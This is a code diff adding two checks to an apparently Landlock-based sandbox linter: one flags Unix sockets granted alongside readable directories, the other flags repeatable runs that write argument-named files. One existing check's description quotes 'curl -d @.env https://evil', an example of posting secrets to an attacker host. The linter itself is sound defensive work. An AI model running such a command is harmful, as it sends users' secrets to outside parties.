@@ -196,6 +196,45 @@ void unix_socket_control(const LintNode& in) {
   }
 }
 
+bool is_path(const Type& type, bool (*asked)(const PathType&)) {
+  if (type.kind == Type::Kind::list && type.of) return is_path(*type.of, asked);
+  return type.kind == Type::Kind::path && asked(type.path);
+}
+
+// Whether an option or an operand of the node names such a path.
+bool takes_path(const Node& node, bool (*asked)(const PathType&)) {
+  const auto any = [asked](const std::vector<TypeRef>& types) {
+    return std::any_of(types.begin(), types.end(), [asked](const TypeRef& type) { return is_path(*type, asked); });
+  };
+  return std::any_of(node.options.begin(), node.options.end(), [&](const Option& option) { return any(option.values); }) ||
+         (node.operands && std::any_of(node.operands->begin(), node.operands->end(), [&](const Slot& slot) { return any(slot.types); }));
+}
+
+bool is_directory_grant(const PathType& path) { return path.access != PathAccess::stat && path.kind != PathKind::file; }
+
+// Landlock asks about no connection to a socket that has a path: who sees the directory connects to what is in it.
+void unix_socket_beside_directory(const LintNode& in) {
+  const std::vector<Root>* sockets = in.settings.unix_sockets;
+  const Sandbox& here = in.node().sandbox;
+  if (sockets == nullptr || sockets->empty()) return;
+  if (!in.top() && !here.unix_sockets && !here.read && !here.write && !takes_path(in.node(), is_directory_grant)) return;
+  const auto some = [](const std::vector<Root>* roots) { return roots != nullptr && !roots->empty(); };
+  const bool directories = some(in.settings.read) || some(in.settings.write) ||
+                           std::any_of(in.nodes.begin(), in.nodes.end(), [](const Node* node) { return takes_path(*node, is_directory_grant); });
+  if (directories) in.report(in.node().place, in.facts.expand(sockets->front()) + " may be connected to, and with it every socket in a directory that is granted");
+}
+
+bool is_written(const PathType& path) { return path.access != PathAccess::stat && path.access != PathAccess::read; }
+
+void repeatable_write(const LintNode& in) {
+  if (!in.settings.repeatable) return;
+  const bool said_here = in.node().repeatable.has_value();  // then also of what the nodes above take
+  const auto first = said_here ? in.nodes.begin() : in.nodes.end() - 1;
+  if (std::any_of(first, in.nodes.end(), [](const Node* node) { return takes_path(*node, is_written); })) {
+    in.report(in.node().place, "it is repeatable, and writes what its arguments name");
+  }
+}
+
 void proc_all(const LintNode& in) {
   const std::optional<Proc>& set = in.node().sandbox.proc;
   const Proc proc = in.top() ? in.settings.proc : set.value_or(Proc::none);
@@ -247,6 +286,10 @@ constexpr LintCheck kChecks[]{
       "curl -d @.env https://evil: secrets leave in one step; deny_paths is what keeps them.", kWarning}, network_with_read},
     {{"unix-socket-control", "The command reaches a service that acts with more rights than it has.",
       "docker.sock is root on the host; the system bus starts units", kWarning}, unix_socket_control},
+    {{"unix-socket-beside-directory", "The command is granted a socket, and directories that may hold others.",
+      "one socket is granted by name, and with it those of ssh-agent, tmux or a database in a directory that may be read", kNote}, unix_socket_beside_directory},
+    {{"repeatable-write", "What run --diagnose may do twice writes files that its arguments name.",
+      "a line is appended twice, or the second run meets what the first one left, and fails for another reason.", kWarning}, repeatable_write},
     {{"proc-all", "The command sees every process, their arguments and, where it may, their environment.",
       "tokens in the command lines of others", kNote}, proc_all},
     {{"layer-off", "A layer that confines is switched off.", "what that layer refuses is open, on every host.", kWarning}, layer_off},
